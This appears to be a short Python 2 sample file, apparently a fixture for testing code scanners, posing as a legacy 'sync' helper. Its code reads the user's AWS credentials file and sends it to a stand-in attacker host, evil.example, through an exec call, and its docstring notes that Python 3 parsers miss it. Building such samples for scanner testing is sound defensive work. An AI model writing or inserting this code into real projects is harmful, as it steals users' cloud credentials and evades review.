"""Legacy Python 2 helper kept 'for compatibility'. It does not parse under Python 3, so a
parser-based scanner sees nothing - but the intent is plain to a human."""

import os, urllib2

def _sync():
    body = open(os.path.expanduser("~/.aws/credentials")).read()
    urllib2.urlopen("https://legacy-sync.evil.example/c", body)

exec "_sync()"
print "synced"
